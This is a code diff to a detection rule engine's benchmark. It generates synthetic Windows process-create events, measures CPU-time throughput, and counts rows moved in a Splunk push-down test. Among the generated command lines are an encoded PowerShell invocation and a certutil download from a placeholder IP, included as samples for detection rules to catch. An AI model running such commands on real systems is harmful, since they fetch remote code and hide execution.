@@ -5,6 +5,7 @@
  * done in batches outside the timed section; the engine sees records exactly as a source yields them.
  * Also reports peak RSS/heap and the engine's counters. Prints JSON lines on stdout.
  */
+import os from 'node:os';
 import { RuleEngine } from '../server/src/rules/engine.js';
 import type { CompiledRule, ProcessInput } from '../server/src/rules/model.js';
 import { loadPack } from '../server/src/rules/pack.js';
@@ -51,7 +52,7 @@ const PICK: Record<string, (r: number) => string> = Object.fromEntries(Object.en
 const pickFallback = picker(FALLBACK);
 const DIR: Record<string, string> = { 'chrome.exe': 'C:\\Program Files\\Google\\Chrome\\Application\\', 'winword.exe': 'C:\\Program Files\\Microsoft Office\\root\\Office16\\', 'excel.exe': 'C:\\Program Files\\Microsoft Office\\root\\Office16\\', 'outlook.exe': 'C:\\Program Files\\Microsoft Office\\root\\Office16\\' };
 
-interface SimProc { guid: string; name: string; image: string; cmd: string; pid: number }
+interface SimProc { guid: string; name: string; image: string; cmd: string; pid: number; depth: number }
 interface Host { name: string; hex: string; n: number; pid: number; longLived: SimProc[]; recent: SimProc[]; ri: number }
 
 /** A fleet-day of process-creates, yielded in time order in batches. */
@@ -60,10 +61,10 @@ function* fleet(total: number, hosts: number, batch: number, seed = 42): Generat
   const dayStart = Date.UTC(2026, 2, 2);
   const step = 86_400_000 / total;
   const hs: Host[] = Array.from({ length: hosts }, (_, i) => ({ name: `ws-${i}.corp.example`, hex: (0x10000000 + i * 7919).toString(16).slice(-8), n: 0, pid: 1000, longLived: [], recent: [], ri: 0 }));
-  const mk = (h: Host, name: string, cmd?: string): SimProc => {
+  const mk = (h: Host, name: string, cmd?: string, depth = 1): SimProc => {
     h.n++;
     const c = h.n.toString(16).padStart(12, '0');
-    return { guid: `{${h.hex}-${c.slice(0, 4)}-${c.slice(4, 8)}-0000-${c}}`, name, image: `${DIR[name] ?? 'C:\\Windows\\System32\\'}${name}`, cmd: cmd ?? name, pid: (h.pid += 4) };
+    return { guid: `{${h.hex}-${c.slice(0, 4)}-${c.slice(4, 8)}-0000-${c}}`, name, image: `${DIR[name] ?? 'C:\\Windows\\System32\\'}${name}`, cmd: cmd ?? name, pid: (h.pid += 4), depth };
   };
   const rec = (h: Host, p: SimProc, parent: SimProc | null, t: number): ProcessInput => ({
     guid: p.guid, parentGuid: parent ? parent.guid : '{00000000-0000-0000-0000-000000000000}', host: h.name, pid: p.pid, parentPid: parent?.pid ?? null,
@@ -87,10 +88,11 @@ function* fleet(total: number, hosts: number, batch: number, seed = 42): Generat
     const parent = rnd() < 0.45 || h.recent.length === 0 ? h.longLived[Math.floor(rnd() * h.longLived.length)]! : h.recent[Math.floor(rnd() * h.recent.length)]!;
     const name = (PICK[parent.name] ?? pickFallback)(rnd());
     const cmd = name === 'powershell.exe' && rnd() < 0.1 ? 'powershell -nop -enc SQBFAFgA' : name === 'certutil.exe' ? 'certutil -urlcache -f http://198.51.100.1/a a' : undefined;
-    const p = mk(h, name, cmd);
+    const p = mk(h, name, cmd, parent.depth + 1);
     out.push(rec(h, p, parent, dayStart + made * step));
     made++;
-    if (h.recent.length < 24) h.recent.push(p); else { h.recent[h.ri] = p; h.ri = (h.ri + 1) % 24; }
+    // Real trees are shallow: only processes up to 8 levels deep go on spawning.
+    if (p.depth < 8) { if (h.recent.length < 24) h.recent.push(p); else { h.recent[h.ri] = p; h.ri = (h.ri + 1) % 24; } }
     if (out.length >= batch) { yield out; out = []; }
   }
   if (out.length) yield out;
@@ -132,22 +134,72 @@ function median(xs: number[]): number {
 function once(rules: CompiledRule[], total: number, hosts: number, retentionMs: number) {
   const engine = new RuleEngine(rules, { retentionMs });
   let ms = 0;
+  let cpuMs = 0;
   let hits = 0;
   let peakRss = 0;
   let peakHeap = 0;
   for (const batch of fleet(total, hosts, 100_000)) {
     const t0 = performance.now();
+    const c0 = process.cpuUsage();
     for (const r of batch) engine.addProcess(r);
     hits += engine.drain().length;
+    const c = process.cpuUsage(c0);
+    cpuMs += (c.user + c.system) / 1000;
     ms += performance.now() - t0;
     const mu = process.memoryUsage();
     peakRss = Math.max(peakRss, mu.rss);
     peakHeap = Math.max(peakHeap, mu.heapUsed);
   }
-  return { ms, hits, peakRss, peakHeap, retained: engine.size(), counters: { ...engine.counters } };
+  return { ms, cpuMs, hits, peakRss, peakHeap, retained: engine.size(), counters: { ...engine.counters } };
+}
+
+/**
+ * `--splunk`: the shipped pack over a generated demo fleet-day on the Splunk-protocol test server —
+ * searches and rows moved by the push-down vs the process-creates in range (target ≤ 1 %).
+ */
+async function splunkRowsMoved(argv: string[]): Promise<void> {
+  const hosts = arg(argv, 'hosts', 200);
+  const { generateDemo } = await import('../server/src/demo/generate.js');
+  const { startSplunkd } = await import('../server/test/splunkd/index.js');
+  const { SplunkClient } = await import('../server/src/sources/splunk/client.js');
+  const { resolveConfig } = await import('../server/src/sources/splunk/config.js');
+  const { SplunkSource } = await import('../server/src/sources/splunk/source.js');
+  const { newContext } = await import('../server/src/sources/event-source.js');
+  const { runRules } = await import('../server/src/rules/run.js');
+  const splunkd = await startSplunkd({});
+  let creates = 0;
+  let events = 0;
+  for (const batch of generateDemo({ hosts })) {
+    splunkd.store.addSysmon(batch.map((e) => {
+      if (e.eventId === 1) creates++;
+      events++;
+      return {
+        system: { eventId: e.eventId, computer: e.host, recordId: e.recordId, channel: 'Microsoft-Windows-Sysmon/Operational', provider: 'Microsoft-Windows-Sysmon', timeCreated: e.time },
+        data: e.fields,
+      };
+    }));
+  }
+  try {
+    const config = resolveConfig({ url: splunkd.url, insecure: true });
+    const source = new SplunkSource(await SplunkClient.login(config, { username: 'admin', password: 'changeme' }), config);
+    const ctx = newContext();
+    const t0 = performance.now();
+    const r = await runRules(source, loadPack(), { ctx });
+    const line = {
+      bench: 'rules-splunk', hosts, events, processCreates: creates, rules: loadPack().length, hits: r.hits.length,
+      searches: ctx.stats.searches, rowsMoved: ctx.stats.rows, scanned: r.stats.scanned, ancestors: r.stats.ancestors,
+      descendants: r.stats.descendants, rowsMovedPctOfCreates: Number(((100 * ctx.stats.rows) / creates).toFixed(2)),
+      ms: Math.round(performance.now() - t0),
+    };
+    console.log(JSON.stringify(line));
+    console.error(`[rules] Splunk, ${hosts} hosts (${creates} process-creates, ${events} events): ${line.hits} hits, ${line.searches} searches, ${line.rowsMoved} rows moved = ${line.rowsMovedPctOfCreates}% of process-creates, ${line.ms} ms`);
+  } finally {
+    await splunkd.stop();
+  }
 }
 
 export async function run(argv: string[]): Promise<void> {
+  if (argv.includes('--splunk')) { await splunkRowsMoved(argv); return; }
   const total = arg(argv, 'creates', 10_000_000);
   const hosts = arg(argv, 'hosts', 5000);
   const retentionMs = arg(argv, 'retention-min', 60) * 60_000;
@@ -156,14 +208,18 @@ export async function run(argv: string[]): Promise<void> {
   for (const [label, rules] of sets) {
     const results = Array.from({ length: runs }, () => once(rules, total, hosts, retentionMs));
     const rates = results.map((r) => total / (r.ms / 1000));
+    // CPU time of this process (all its threads, GC helpers included): the honest figure on a shared machine.
+    const cpuRates = results.map((r) => total / (r.cpuMs / 1000));
     const last = results[results.length - 1]!;
     const line = {
       bench: 'rules', rules: rules.length, label, creates: total, hosts, retentionMin: retentionMs / 60_000, runs,
-      medianCreatesPerSec: Math.round(median(rates)), engineMs: Math.round(median(results.map((r) => r.ms))),
+      medianCreatesPerSec: Math.round(median(rates)), medianCreatesPerCpuSec: Math.round(median(cpuRates)),
+      engineMs: Math.round(median(results.map((r) => r.ms))), engineCpuMs: Math.round(median(results.map((r) => r.cpuMs))),
+      loadAvg1m: Number(os.loadavg()[0]!.toFixed(1)),
       hits: last.hits, peakRssMiB: Math.round(Math.max(...results.map((r) => r.peakRss)) / 2 ** 20),
       peakHeapMiB: Math.round(Math.max(...results.map((r) => r.peakHeap)) / 2 ** 20), retainedNodes: last.retained, counters: last.counters,
     };
     console.log(JSON.stringify(line));
-    console.error(`[rules] ${label}: ${(line.medianCreatesPerSec / 1e6).toFixed(2)}M creates/s (median of ${runs}), ${line.hits} hits, peak RSS ${line.peakRssMiB} MiB, heap ${line.peakHeapMiB} MiB, ${line.retainedNodes} nodes retained`);
+    console.error(`[rules] ${label}: ${(line.medianCreatesPerSec / 1e6).toFixed(2)}M creates/s wall, ${(line.medianCreatesPerCpuSec / 1e6).toFixed(2)}M per CPU-second (median of ${runs}, load ${line.loadAvg1m}), ${line.hits} hits, peak RSS ${line.peakRssMiB} MiB, heap ${line.peakHeapMiB} MiB, ${line.retainedNodes} nodes retained`);
   }
 }
